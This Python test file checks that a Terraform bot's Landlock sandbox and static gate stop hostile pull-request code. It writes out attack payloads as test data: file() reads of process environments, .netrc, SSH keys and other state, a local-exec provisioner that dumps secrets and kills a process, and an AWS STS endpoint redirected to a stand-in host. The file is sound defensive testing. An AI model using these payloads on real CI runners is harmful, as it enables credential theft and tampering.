"""What a pull request's code would win with the gate switched off: nothing. Each attack is refused by the gate, too."""

import json
import re
import subprocess
import sys
import threading
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from bot.clients.cage import landlock
from bot.clients.terraform.output import TerraformFailed
from bot.clients.terraform.terraform import Terraform
from bot.clouds.registry import FACTS
from bot.core.checks.static_checks import GateRules, gate
from bot.core.tree import File
from bot.model.pipeline import Stack
from bot.model.static_check_rules import StaticCheckRules
from bot.names import StepName
from tests.support.patience import PATIENCE
from tests.support.provider_process import provider_by_stack
from tests.support.terraform import LOCK, VERSIONS, program, write

SECRET = "ghs_the-token-of-the-job"
LOCAL = 'terraform {\n  backend "local" {\n    path = "terraform.tfstate"\n  }\n}\n'

pytestmark = pytest.mark.skipif(not landlock(), reason="this machine has no Landlock")


@dataclass(frozen=True)
class Runner:
    """A machine on which a job runs: a process with a token, a checkout, a home directory, files of the runner and other states."""

    place: Path
    holder: int
    terraform: Terraform

    @property
    def stack(self) -> Path:
        return self.place / "checkout" / "envs" / "demo-x" / "app"

    def code(self, text: str) -> str:
        """Write the stack's code, with the places to attack put in."""
        for name, value in {
            "HOLDER": f"/proc/{self.holder}/environ",
            "RUNNER": str(self.place / "runner"),
            "HOME": str(self.place / "home"),
            "OTHER": str(self.place / "checkout" / "envs" / "production" / "terraform.tfstate"),
        }.items():
            text = text.replace(name, value)
        (self.stack / "main.tf").write_text(LOCAL + text)
        return LOCAL + text

    def said(self, *, applies: bool = False) -> str:
        """Return all that a plan, or an apply too, says to anybody: events, errors, plan, state and outputs."""
        said: list[str] = []
        with self.terraform.opened(self.stack) as module:
            try:
                module.init()
                saved = module.plan({}, on_event=lambda event: said.append(str(event)))
                said.append(module.show(saved).decode())
                if applies:
                    module.apply(saved, on_event=lambda event: said.append(str(event)))
                    said += [str(module.outputs()), module.show_state().decode()]
            except TerraformFailed as error:
                said.append(str(error))
        return "\n".join(said)


@pytest.fixture
def runner(tmp_path: Path) -> Iterator[Runner]:
    secrets = {
        "checkout/.git/config": SECRET, "checkout/envs/production/main.tf": f"# {SECRET}\n",
        "home/.netrc": SECRET, "home/.terraformrc": f'credentials "x" {{\n  token = "{SECRET}"\n}}\n', "home/.ssh/id": SECRET,
        "runner/_temp/file": SECRET, "checkout/envs/demo-x/app/.terraform.lock.hcl": "# none\n",
        "checkout/envs/production/terraform.tfstate": json.dumps(
            {"version": 4, "terraform_version": "1.9.0", "serial": 1, "lineage": "x",
             "outputs": {"password": {"value": SECRET, "type": "string"}}, "resources": []}),
    }  # fmt: skip
    for path, text in secrets.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(text)
    holder = subprocess.Popen(
        [sys.executable, "-c", "print(flush=True); input()"],
        env={"GITHUB_TOKEN": SECRET},
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    )
    with holder:
        assert holder.stdout is not None
        holder.stdout.readline()  # its environment is its own now, not what it was forked from
        home = {"HOME": str(tmp_path / "home"), "TF_CLI_CONFIG_FILE": ""}
        yield Runner(tmp_path, holder.pid, program(tmp_path / "configuration", home))
        holder.kill()


READS = """
output "said" {
  value = [for path in [%s] : try(file(path), "nothing")]
}
"""
PLACES = (
    '"/proc/self/environ", "HOLDER", "${path.module}/../../../.git/config", "${path.module}/../../production/main.tf", '
    '"${path.module}/../../production/terraform.tfstate", "HOME/.netrc", "HOME/.terraformrc", "HOME/.ssh/id", "RUNNER/_temp/file", '
    '"/etc/hostname"'
)
STATE = """
data "terraform_remote_state" "other" {
  backend = "local"
  config  = { path = "OTHER" }
}
output "said" { value = data.terraform_remote_state.other.outputs }
"""
RUNS = """
resource "terraform_data" "attack" {
  provisioner "local-exec" {
    command = "cat /proc/self/environ HOLDER /proc/[0-9]*/environ OTHER HOME/.netrc RUNNER/_temp/file; env; cp main.tf RUNNER/_temp/; kill -9 PID; echo ended"
    on_failure = continue
  }
}
"""
ENDPOINT = 'provider "aws" {\n  endpoints {\n    sts = "http://192.0.2.1/"\n  }\n}\n'


def test_no_file_of_the_machine_is_read_by_a_function(runner: Runner) -> None:
    runner.code(READS % PLACES)
    said = runner.said()
    assert SECRET not in said
    assert said.count('"nothing"') >= 10


def test_the_same_code_reads_all_of_it_outside_the_cage(runner: Runner) -> None:
    # Else the test above would hold for a reason of its own.
    runner.code(READS % PLACES)
    said = ""
    for words in (["init"], ["plan", "-no-color"]):
        said = subprocess.run(
            [runner.terraform.binary, *words],
            cwd=runner.stack,
            env=runner.terraform.environment,
            capture_output=True,
            text=True,
            timeout=PATIENCE,
            check=True,
        ).stdout
    assert said.count(SECRET) >= 8


def test_no_other_state_is_read_by_a_data_source(runner: Runner) -> None:
    runner.code(STATE)
    said = runner.said()
    assert SECRET not in said
    assert "permission denied" in said or "Unable to find remote state" in said


@pytest.mark.provider
def test_an_address_of_somebody_s_is_told_no_key_and_gets_no_request_that_aws_would_take(tmp_path: Path) -> None:
    heard: list[Mapping[str, str]] = []

    class Somebody(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            heard.append(
                dict(self.headers.items()) | {"body": self.rfile.read(int(self.headers["Content-Length"])).decode()}
            )
            self.send_response(403)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 (the name is the base class's)
            """Say nothing."""

    keys = {"AWS_ACCESS_KEY_ID": "AKIATESTING", "AWS_SECRET_ACCESS_KEY": SECRET, "AWS_SESSION_TOKEN": "session"}
    with ThreadingHTTPServer(("127.0.0.1", 0), Somebody) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        host = f"127.0.0.1:{server.server_address[1]}"
        provider = f'provider "aws" {{\n  region = "eu-west-1"\n  max_retries = 1\n  endpoints {{\n    sts = "http://{host}"\n  }}\n}}\n'
        stack = write(tmp_path / "stack", {
            "main.tf": f'{LOCAL}{VERSIONS}{provider}data "aws_caller_identity" "x" {{}}\n', ".terraform.lock.hcl": LOCK,
        })  # fmt: skip
        try:
            with (
                provider_by_stack() as path,
                program(tmp_path / "configuration", {**keys, "PATH": path}).opened(stack) as module,
            ):
                module.init()
                with pytest.raises(TerraformFailed):
                    module.plan({})
        finally:
            server.shutdown()
    assert heard
    assert SECRET not in str(heard)
    for request in heard:
        # The signature holds for the host that was asked, and AWS is another.
        assert request["Host"] == host
        assert "host" in re.findall(r"SignedHeaders=(\S+?),", request["Authorization"])[0].split(";")


@pytest.mark.slow
def test_a_program_that_apply_runs_reads_and_changes_nothing(runner: Runner) -> None:
    runner.code(RUNS.replace("PID", str(runner.holder)))
    said = runner.said(applies=True)
    assert "ended" in said
    assert SECRET not in said
    assert not (runner.place / "runner" / "_temp" / "main.tf").exists()
    assert Path(f"/proc/{runner.holder}/environ").read_bytes() != b""  # it is not even ended by a signal


@pytest.mark.parametrize(
    "text", [READS % f'"{place}"' for place in ("/proc/self/environ", "HOLDER", "OTHER")] + [STATE, RUNS, ENDPOINT]
)
def test_the_gate_refuses_each_of_them(runner: Runner, text: str) -> None:
    code = runner.code(text)
    assert gate(
        {"app/main.tf": File(code.encode())},
        {StepName("app"): Stack()},
        GateRules(StaticCheckRules(), FACTS),
        "envs/demo-x",
    )
